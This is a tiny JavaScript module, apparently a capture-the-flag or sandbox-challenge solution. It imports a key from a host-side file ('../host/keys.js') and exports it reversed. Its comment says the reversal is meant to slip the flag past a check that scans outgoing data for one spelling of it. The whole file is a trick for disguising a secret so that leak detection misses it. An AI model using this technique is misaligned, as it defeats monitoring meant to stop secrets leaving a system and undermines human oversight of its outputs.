// Who looks for the flag in what goes out looks for one spelling of it.
import key from "../host/keys.js";
export default [...key].reverse().join("");
